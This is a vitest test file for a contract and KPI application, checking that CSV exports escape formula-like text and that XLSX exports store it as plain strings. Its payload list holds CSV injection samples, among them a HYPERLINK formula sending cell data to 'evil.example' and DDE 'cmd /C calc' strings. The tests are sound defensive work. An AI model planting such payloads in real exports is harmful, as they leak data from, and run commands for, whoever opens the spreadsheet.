// CSV formula injection: every CSV the product writes neutralises text that a spreadsheet would
// run as a formula (OWASP: a leading single quote, the cell quoted), while amounts and values stay
// numbers, negative ones included. The XLSX exports keep such text a plain string cell.
import ExcelJS from "exceljs";
import { and, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { contracts, indicators, kpis, organisations, organisationTargets, promises, reviews, reviewScores, wheelThemes } from "@/db/schema";
import { csvField, toCsv } from "@/lib/spreadsheet/write-csv";
import { decimalCell, integerCell, moneyCell, NumberCell } from "@/lib/spreadsheet/cells";
import { EXPORT_TABLES } from "@/lib/dashboard/export";
import { dashboardExportRoute } from "@/lib/dashboard/routes";
import { importTemplateCsv, importTemplateXlsx } from "@/lib/kpi-library/import/template";
import { valuesTemplateCsv, valuesTemplateXlsx } from "@/lib/reports/values-template";
import { malusLedgerCsvRoute, reviewScoresCsvRoute } from "@/lib/reviews/output-routes";
import { openTestDatabase } from "../fixtures/db";
import { seedDashboardBuyer, type DashboardWorld } from "../fixtures/dashboard";
import { createBuyer, createSupplier, insertContract, nextRequest, uniqueSuffix } from "../fixtures/factories";
import { insertReviewWithRows } from "../fixtures/review-outputs";

const { db } = await openTestDatabase();

/** What Excel, LibreOffice and Google Sheets would start a formula or a DDE command with. */
const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&A1;"Klik")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\uff1d1+1",
];
let next = 0;
/** A payload of the list, tagged with the field it went into so a test can find it back. */
const hostile = (field: string) => `${PAYLOADS[next++ % PAYLOADS.length]} ${field}`;

type Cell = { value: string; quoted: boolean };

/** The cells as a spreadsheet reads them: ';' separated, '"' quoted with '""' inside. */
function parseCsv(csv: string): Cell[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const text = csv.slice(1);
  const rows: Cell[][] = [];
  let row: Cell[] = [];
  let value = "";
  let quoted = false;
  let inQuotes = false;
  const endCell = () => {
    row.push({ value, quoted });
    value = "";
    quoted = false;
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') {
        value += '"';
        i++;
      } else if (ch === '"') inQuotes = false;
      else value += ch;
    } else if (ch === '"' && value === "") {
      inQuotes = true;
      quoted = true;
    } else if (ch === ";") endCell();
    else if (ch === "\r" && text[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else value += ch;
  }
  expect(inQuotes).toBe(false);
  expect(row).toEqual([]);
  return rows;
}

const FORMULA_START = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
const NUMBER = /^-?\d+(,\d+)?$/;

/** No cell may start a formula, unless it is a plain number (a negative amount). */
function expectNoFormulaCells(csv: string): Cell[][] {
  const rows = parseCsv(csv);
  for (const cell of rows.flat()) {
    if (NUMBER.test(cell.value)) expect(cell.quoted, `number ${cell.value} written as text`).toBe(false);
    else expect(FORMULA_START.test(cell.value), `formula cell ${JSON.stringify(cell.value)}`).toBe(false);
  }
  return rows;
}

/** Each payload is kept whole, behind one quote, in a quoted cell. */
function expectNeutralised(rows: Cell[][], payloads: string[]) {
  const cells = rows.flat();
  for (const payload of payloads) {
    expect(cells, `payload ${JSON.stringify(payload)} missing or changed`).toContainEqual({ value: `'${payload}`, quoted: true });
  }
}

type Download = { filename: string; contentType: string; bytes: Uint8Array };
const file = (result: { status: number; body: unknown }) => {
  expect(result.status).toBe(200);
  return (result.body as { data: Download }).data;
};
const decode = (bytes: Uint8Array) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);

describe("the CSV writer", () => {
  it("writes formula-like text as text: a leading quote, the cell quoted, the text kept whole", () => {
    for (const payload of PAYLOADS) {
      expect(csvField(payload)).toBe(`"'${payload.replace(/"/g, '""')}"`);
    }
    expect(csvField("-")).toBe(`"'-"`);
    // Ordinary text is left alone; a dash or an at sign further on is no formula.
    expect(csvField("CO2-uitstoot @ 20 %")).toBe("CO2-uitstoot @ 20 %");
    expect(csvField("")).toBe("");
  });

  it("writes numbers as numbers, negative ones included, never prefixed or quoted", () => {
    expect(toCsv([[decimalCell(-2.5), moneyCell(-250), decimalCell("-41.5000"), decimalCell("0.0000"), integerCell(0), null]])).toBe(
      "\uFEFF-2,5;-2,50;-41,5;0;0;\r\n",
    );
    expect(csvField(decimalCell(Number.NaN))).toBe("");
  });

  it("keeps the number cell type for numbers only", () => {
    expect(() => NumberCell.of("decimal", "=1+1")).toThrow(RangeError);
    expect(() => decimalCell("=1+1")).toThrow(RangeError);
    expect(NumberCell.of("decimal", "-12.5").digits).toBe("-12.5");
  });
});

describe("review scores and malus ledger", () => {
  let buyer: Awaited<ReturnType<typeof createBuyer>>;
  let supplier: Awaited<ReturnType<typeof createSupplier>>;
  beforeAll(async () => {
    [buyer, supplier] = [await createBuyer(db), await createSupplier(db)];
  });

  it("neutralise the contract number, supplier name, KPI name, unit and every reason; values stay numbers", async () => {
    const texts = {
      reference: hostile("ref").slice(0, 40),
      supplierName: hostile("leverancier"),
      kpiName: hostile("kpi"),
      unit: hostile("eenheid").slice(0, 40),
      agreedReason: hostile("reden"),
      waiverReason: hostile("kwijtschelding"),
    };
    const contract = await insertContract(db, {
      tenantId: buyer.org.id,
      managerId: buyer.as.contract_manager.userId,
      supplierOrgId: supplier.org.id,
    });
    await db
      .update(contracts)
      .set({ reference: texts.reference })
      .where(and(eq(contracts.tenantId, contract.tenantId), eq(contracts.id, contract.id)));
    await db.update(organisations).set({ name: texts.supplierName }).where(eq(organisations.id, supplier.org.id));
    const [indicator] = await db
      .insert(indicators)
      .values({
        ownerOrgId: buyer.org.id,
        code: `csv_${uniqueSuffix()}`,
        name: hostile("indicator"),
        unitCode: "C62",
        unitLabel: texts.unit,
        direction: "lower_better",
        aggregation: "sum",
      })
      .returning();
    const { kpi, review } = await insertReviewWithRows(db, contract, { waiverCents: 50_000, final: false });
    await db
      .update(kpis)
      .set({ name: texts.kpiName, indicatorId: indicator.id })
      .where(and(eq(kpis.tenantId, contract.tenantId), eq(kpis.id, kpi.id)));
    await db
      .update(reviewScores)
      .set({ agreedReason: texts.agreedReason, waiverReason: texts.waiverReason, reportedValue: "-36.5000", target: "-40.0000" })
      .where(and(eq(reviewScores.tenantId, contract.tenantId), eq(reviewScores.reviewId, review.id)));
    const signed = new Date("2026-04-23T10:00:00Z");
    await db
      .update(reviews)
      .set({
        status: "final",
        buyerSignedAt: signed,
        buyerSignerName: "Koper",
        supplierSignedAt: signed,
        supplierSignerName: "Leverancier",
        finalizedAt: signed,
        malusAppliedCents: 200_000,
      })
      .where(and(eq(reviews.tenantId, contract.tenantId), eq(reviews.id, review.id)));

    for (const ctx of [buyer.as.viewer, await nextRequest(supplier.as.viewer)]) {
      const scores = expectNoFormulaCells(decode(file(await reviewScoresCsvRoute.run(ctx, { id: contract.id, quarter: "2026-Q1" })).bytes));
      expectNeutralised(scores, [texts.reference, texts.kpiName, texts.unit, texts.agreedReason, texts.waiverReason]);
      // The values and amounts of the score row, as numbers: reported, target, rule, waived, applied.
      expect(scores[1].map((c) => c.value)).toEqual(expect.arrayContaining(["-36,5", "-40", "2500,00", "500,00", "2000,00"]));

      const ledger = expectNoFormulaCells(decode(file(await malusLedgerCsvRoute.run(ctx, { id: contract.id })).bytes));
      expectNeutralised(ledger, [texts.reference, texts.supplierName, texts.kpiName, texts.waiverReason]);
      expect(ledger.at(-1)!.map((c) => c.value)).toEqual(["", "", "Totaal", "", "2500,00", "500,00", "", "2000,00"]);
    }
  });
});

describe("dashboard tables", () => {
  let world: DashboardWorld;
  const texts: string[] = [];
  beforeAll(async () => {
    world = await seedDashboardBuyer(db);
    const t = world.buyer.org.id;
    for (const c of [world.c1, world.c2]) {
      const title = hostile("contract");
      texts.push(title);
      await db
        .update(contracts)
        .set({ title })
        .where(and(eq(contracts.tenantId, t), eq(contracts.id, c.id)));
    }
    for (const id of Object.values(world.themes)) {
      const name = hostile("thema").slice(0, 120);
      texts.push(name);
      await db
        .update(wheelThemes)
        .set({ name })
        .where(and(eq(wheelThemes.tenantId, t), eq(wheelThemes.id, id)));
    }
    for (const target of await db.select().from(organisationTargets).where(eq(organisationTargets.tenantId, t))) {
      const name = hostile("doelstelling");
      texts.push(name);
      await db
        .update(organisationTargets)
        .set({ name })
        .where(and(eq(organisationTargets.tenantId, t), eq(organisationTargets.id, target.id)));
    }
    for (const promise of await db.select().from(promises).where(eq(promises.tenantId, t))) {
      const description = hostile("toezegging");
      texts.push(description);
      // A negative promise (a reduction) must stay a number.
      await db
        .update(promises)
        .set({ description, value: "-12.5" })
        .where(and(eq(promises.tenantId, t), eq(promises.id, promise.id)));
    }
  });

  const search = () => new URLSearchParams("van=2026-Q1&tot=2026-Q4");

  it("neutralise contract titles, theme and target names and promises in every table; numbers stay numbers", async () => {
    const all: Cell[][] = [];
    for (const table of EXPORT_TABLES) {
      const csv = decode(
        file(await dashboardExportRoute.run(world.buyer.as.coordinator, { search: search(), table, format: "csv" })).bytes,
      );
      all.push(...expectNoFormulaCells(csv));
    }
    expectNeutralised(all, texts);
    expect(all.flat()).toContainEqual({ value: "-12,5", quoted: false });
  });

  it("keep the same text a plain string in the XLSX export, never a formula", async () => {
    const bytes = file(
      await dashboardExportRoute.run(world.buyer.as.coordinator, { search: search(), table: "alle", format: "xlsx" }),
    ).bytes;
    const strings = await xlsxStrings(bytes);
    for (const text of texts) expect(strings.get(xmlText(text)), text).toBe("string");
    expect([...strings.values()]).not.toContain("formula");
  });
});

// XML turns a carriage return into a line feed; what matters here is the cell type.
const xmlText = (text: string) => text.replace(/\r\n?/g, "\n");

/** Every cell of a workbook by its text (see xmlText), with the type exceljs reads it as. */
async function xlsxStrings(bytes: Uint8Array): Promise<Map<string, string>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const types = new Map<string, string>();
  const names = Object.fromEntries(Object.entries(ExcelJS.ValueType).map(([name, value]) => [value, name.toLowerCase()]));
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const key = xmlText(cell.formula ?? String(cell.value));
        types.set(key, cell.formula ? "formula" : names[cell.type]);
      }),
    ),
  );
  return types;
}

describe("templates", () => {
  const kpi = (kind: "quantitative" | "qualitative") => ({
    id: crypto.randomUUID(),
    name: hostile("kpi-naam"),
    unit: kind === "quantitative" ? hostile("eenheid") : null,
    target: "40.5",
    kind,
  });

  it("the report values template neutralises the KPI names and units the other party chose", () => {
    const kpis = [kpi("quantitative"), kpi("qualitative")];
    const rows = expectNoFormulaCells(valuesTemplateCsv(kpis));
    expectNeutralised(rows, [kpis[0].name, kpis[0].unit!, kpis[1].name]);
  });

  it("the report values template writes a negative target as a number", () => {
    const rows = expectNoFormulaCells(valuesTemplateCsv([{ ...kpi("quantitative"), target: "-5.5000" }]));
    expect(rows[1].map((cell) => cell.value)).toContain("-5,5");
  });

  it("the KPI import template has no formula cells", () => {
    expectNoFormulaCells(importTemplateCsv({ startDate: "2026-01-01" }));
  });

  it("both templates keep formula-like text a string cell in XLSX", async () => {
    const kpis = [kpi("quantitative"), { ...kpi("qualitative"), name: "=1+1" }];
    const values = await xlsxStrings(await valuesTemplateXlsx(kpis, hostile("titel")));
    for (const text of ["=1+1", kpis[0].name, kpis[0].unit!]) expect(values.get(xmlText(text)), text).toBe("string");
    expect([...values.values()]).not.toContain("formula");
    const imports = await xlsxStrings(
      await importTemplateXlsx({ startDate: "2026-01-01", endDate: "2027-12-31" }, [
        { code: "=1+1", name: hostile("indicator"), unitLabel: "@SUM(A1)" },
      ]),
    );
    for (const text of ["=1+1", "@SUM(A1)"]) expect(imports.get(text), text).toBe("string");
    expect([...imports.values()]).not.toContain("formula");
  });
});
